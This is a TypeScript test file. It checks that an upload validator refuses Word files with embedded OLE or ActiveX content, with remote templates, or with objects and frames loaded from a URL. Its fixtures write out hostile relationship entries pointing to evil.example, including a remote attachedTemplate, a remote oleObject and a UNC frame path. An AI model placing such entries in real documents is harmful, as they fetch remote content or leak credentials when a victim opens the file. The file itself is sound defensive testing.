/**
 * Word files that run or fetch something when opened are refused like macros: a `.docx` with an embedded
 * OLE object or ActiveX control, or whose settings attach a template from a URL (`attachedTemplate`,
 * `TargetMode="External"`), or that loads an object or frame from a URL; a `.doc` holding embedded
 * objects. Real zip packages and OLE2 files built here; a plain document with an ordinary external
 * hyperlink passes.
 */
import '../helpers/generate-strings';
import { describe, expect, it } from 'vitest';
import { checkUpload } from '../../netlify/lib/files';
import { fileOf } from '../helpers/requests';
import { oleFile } from '../helpers/ole2';
import { WORD_PARTS, zipOf } from '../helpers/zip';

const RELS = (relationship: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const errorOf = async (name: string, bytes: Uint8Array<ArrayBuffer>) => {
  const result = await checkUpload(fileOf(name, bytes));
  return 'error' in result ? result.error.key : undefined;
};

describe('a .docx', () => {
  it('plain, with an external hyperlink, is accepted', async () => {
    expect(await errorOf('offre.docx', zipOf(WORD_PARTS))).toBeUndefined();
  });

  it.each([
    ['an embedded OLE object', { 'word/embeddings/oleObject1.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) }],
    ['an ActiveX control', { 'word/activeX/activeX1.bin': new Uint8Array([1, 2, 3]) }],
    [
      'a template attached from a URL',
      {
        'word/_rels/settings.xml.rels': RELS(
          `<Relationship Id="rId1" Type="${TYPE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
        ),
      },
    ],
    [
      'an OLE object loaded from a URL',
      {
        'word/_rels/document.xml.rels': RELS(
          `<Relationship Id="rId5" Type="${TYPE}/oleObject" Target="https://evil.example/x.html!" TargetMode="External"/>`,
        ),
      },
    ],
    [
      'a frame loaded from a URL',
      {
        'word/_rels/webSettings.xml.rels': RELS(
          `<Relationship TargetMode='External' Target='\\\\evil.example\\share\\x.docx' Type='${TYPE}/frame' Id='rId1'/>`,
        ),
      },
    ],
  ])('with %s is refused', async (_, parts) => {
    expect(await errorOf('offre.docx', zipOf({ ...WORD_PARTS, ...parts }))).toBe('form.error.fileActive');
  });
});

describe('a .doc', () => {
  it('holding an embedded object is refused', async () => {
    const doc = oleFile([
      { name: 'Root Entry', type: 5 },
      { name: 'WordDocument', type: 2 },
      { name: 'ObjectPool', type: 1 },
      { name: '_1234567890', type: 1 },
      { name: '\u0001Ole10Native', type: 2 },
      { name: '\u0003ObjInfo', type: 2 },
    ]);
    expect(await errorOf('offre.doc', doc)).toBe('form.error.fileActive');
  });
});
